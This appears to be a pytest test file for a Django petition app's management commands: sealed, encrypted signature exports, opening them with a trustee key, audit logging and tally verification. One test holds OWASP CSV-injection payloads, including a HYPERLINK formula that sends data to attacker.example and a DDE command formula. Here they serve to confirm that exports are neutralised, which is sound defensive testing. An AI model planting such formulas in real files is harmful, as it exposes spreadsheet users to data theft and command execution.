"""The trustees' and operators' commands: sealed exports and opening them, the tally check."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import CommandError, call_command
from django.db.models import F

from undersigned.core.crypto import new_identity
from undersigned.core.models import AuditEvent
from undersigned.signatures.models import Signature, TallyShard
from undersigned.signatures.tests.conftest import sign

pytestmark = pytest.mark.django_db


def run(*args: str) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command(*args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def write_identity(path, identity: str, public_key: str) -> None:
    """An identity file as ``create_trustee_key`` (and ``age-keygen``) write it."""
    path.write_text(f"# public key: {public_key}\n{identity}\n", encoding="ascii")
    path.chmod(0o600)


# --- export_signatures and open_export --------------------------------------------------------


@pytest.fixture
def two_signers(open_statement):
    sign(
        open_statement,
        email="Ada.Lovelace@Example.org",
        name="Ada Lovelace",
        city="London",
        affiliation="Analytical Society",
        confirm=True,
    )
    sign(open_statement, email="grace@example.net", name="Grace Hopper", country="US", name_shown="hidden")
    return open_statement


def test_a_trustee_opens_the_export_with_their_identity_file(two_signers, tmp_path):
    export = tmp_path / "export.zip"
    identity_file = tmp_path / "trustee.key"
    write_identity(identity_file, two_signers.identity, two_signers.trustee.public_key)
    opened = tmp_path / "opened.csv"

    out, _ = run(
        "export_signatures", "--statement", two_signers.statement.slug, "--output", str(export), "--include-pending"
    )
    assert out.startswith("2 signatures written")
    run("open_export", str(export), "--identity", str(identity_file), "--output", str(opened))

    rows = {row["email"]: row for row in csv.DictReader(opened.open(encoding="utf-8"))}
    assert set(rows) == {"Ada.Lovelace@Example.org", "grace@example.net"}
    ada, grace = rows["Ada.Lovelace@Example.org"], rows["grace@example.net"]
    assert (ada["name"], ada["city"], ada["affiliation"]) == ("Ada Lovelace", "London", "Analytical Society")
    assert (ada["status"], ada["country"], ada["display_name"]) == ("confirmed", "GB", "Ada Lovelace")
    assert (grace["name"], grace["status"], grace["country"], grace["display_name"]) == (
        "Grace Hopper",
        "pending",
        "US",
        "",
    )


def test_the_export_leaves_out_signatures_nobody_confirmed_unless_asked(two_signers, tmp_path):
    export = tmp_path / "export.zip"
    identity_file = tmp_path / "trustee.key"
    write_identity(identity_file, two_signers.identity, two_signers.trustee.public_key)
    opened = tmp_path / "opened.csv"

    out, _ = run("export_signatures", "--statement", two_signers.statement.slug, "--output", str(export))
    run("open_export", str(export), "--identity", str(identity_file), "--output", str(opened))

    assert out.startswith("1 signatures written")
    rows = list(csv.DictReader(opened.open(encoding="utf-8")))
    assert [(row["status"], row["email"]) for row in rows] == [("confirmed", "Ada.Lovelace@Example.org")]


# The classic payloads of OWASP's CSV-injection page, and the characters it names.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A2,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_a_signer_typed_reaches_the_trustees_spreadsheet_as_text(open_statement, tmp_path, formula):
    sign(
        open_statement,
        email="formula@example.org",
        name=f"{formula} Name",
        city=formula,
        affiliation=formula,
        confirm=True,
    )
    export, opened = tmp_path / "export.zip", tmp_path / "opened.csv"
    identity_file = tmp_path / "trustee.key"
    write_identity(identity_file, open_statement.identity, open_statement.trustee.public_key)

    run("export_signatures", "--statement", open_statement.statement.slug, "--output", str(export))
    run("open_export", str(export), "--identity", str(identity_file), "--output", str(opened))

    (row,) = list(csv.DictReader(opened.open(encoding="utf-8", newline="")))
    for column in ("name", "city", "affiliation", "display_name"):
        assert row[column][:1] == "'", (column, row[column])


def test_the_export_keeps_the_contact_data_sealed(two_signers, tmp_path):
    import zipfile

    export = tmp_path / "export.zip"
    run("export_signatures", "--statement", two_signers.statement.slug, "--output", str(export))

    with zipfile.ZipFile(export) as archive:
        contents = b"".join(archive.read(name) for name in archive.namelist())
    for secret in (b"Ada.Lovelace@Example.org", b"ada.lovelace@example.org", b"Grace Hopper", b"London"):
        assert secret not in contents


def test_another_identity_cannot_open_the_export(two_signers, tmp_path):
    export = tmp_path / "export.zip"
    run("export_signatures", "--statement", two_signers.statement.slug, "--output", str(export))
    stranger = tmp_path / "stranger.key"
    write_identity(stranger, *new_identity())

    with pytest.raises(CommandError, match="does not open"):
        run("open_export", str(export), "--identity", str(stranger), "--output", str(tmp_path / "opened.csv"))


def test_open_export_refuses_a_file_without_an_identity(two_signers, tmp_path):
    export = tmp_path / "export.zip"
    run("export_signatures", "--statement", two_signers.statement.slug, "--output", str(export))
    not_a_key = tmp_path / "public.txt"
    not_a_key.write_text(f"{two_signers.trustee.public_key}\n")

    with pytest.raises(CommandError, match="no AGE-SECRET-KEY"):
        run("open_export", str(export), "--identity", str(not_a_key))


def test_the_export_is_recorded_in_the_audit_log(two_signers, tmp_path):
    run("export_signatures", "--statement", two_signers.statement.slug, "--output", str(tmp_path / "export.zip"))

    event = AuditEvent.objects.get(action="signatures.exported")
    assert (event.subject_type, event.subject_id, event.actor) == ("statement", two_signers.statement.pk, None)
    assert event.detail == {"records": 1, "pending_included": False}


def test_export_signatures_never_overwrites_a_file(two_signers, tmp_path):
    export = tmp_path / "export.zip"
    export.write_bytes(b"an earlier export")

    with pytest.raises(CommandError, match="exists already"):
        run("export_signatures", "--statement", two_signers.statement.slug, "--output", str(export))

    assert export.read_bytes() == b"an earlier export"
    assert not AuditEvent.objects.filter(action="signatures.exported").exists()


# --- verify_tally ---------------------------------------------------------------------------------


def test_verify_tally_is_quiet_when_every_count_agrees(open_statement):
    sign(open_statement, email="ada@example.org", confirm=True)
    sign(open_statement, email="grace@example.net", country="US", confirm=True)
    sign(open_statement, email="pending@example.net", country="US")

    out, err = run("verify_tally")

    assert "agrees" in out
    assert "counted" not in err  # no difference reported; only the progress line


def test_verify_tally_names_the_statement_whose_counter_was_changed_behind_its_back(open_statement):
    sign(open_statement, email="ada@example.org", confirm=True)
    sign(open_statement, email="grace@example.net", country="US", confirm=True)
    TallyShard.objects.filter(statement=open_statement.statement, country="US").update(confirmed=F("confirmed") + 1)

    err = io.StringIO()
    with pytest.raises(CommandError, match="disagree"):
        call_command("verify_tally", stdout=io.StringIO(), stderr=err)

    assert f"{open_statement.statement.slug} [US]: counted 2, confirmed signatures 1" in err.getvalue()
    assert "[GB]" not in err.getvalue()


def test_verify_tally_notices_a_confirmed_signature_missing_from_the_counters(open_statement):
    signature = sign(open_statement, email="ada@example.org")
    Signature.objects.filter(pk=signature.pk).update(status="confirmed", confirmed_at=F("created_at"))

    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("verify_tally", stdout=io.StringIO(), stderr=err)

    assert f"{open_statement.statement.slug} [GB]: counted 0, confirmed signatures 1" in err.getvalue()


def test_an_erased_signature_is_in_the_export_without_contact_data(two_signers, tmp_path):
    Signature.objects.filter(email_hash__isnull=False, status="confirmed").update(sealed_contact=b"")
    export = tmp_path / "export.zip"
    identity_file = tmp_path / "trustee.key"
    write_identity(identity_file, two_signers.identity, two_signers.trustee.public_key)
    opened = tmp_path / "opened.csv"
    out, _ = run(
        "export_signatures", "--statement", two_signers.statement.slug, "--output", str(export), "--include-pending"
    )
    assert out.startswith("2 signatures written")
    run("open_export", str(export), "--identity", str(identity_file), "--output", str(opened))
    rows = list(csv.DictReader(opened.open(encoding="utf-8")))
    assert sorted((row["status"], row["email"]) for row in rows) == [
        ("confirmed", ""),
        ("pending", "grace@example.net"),
    ]
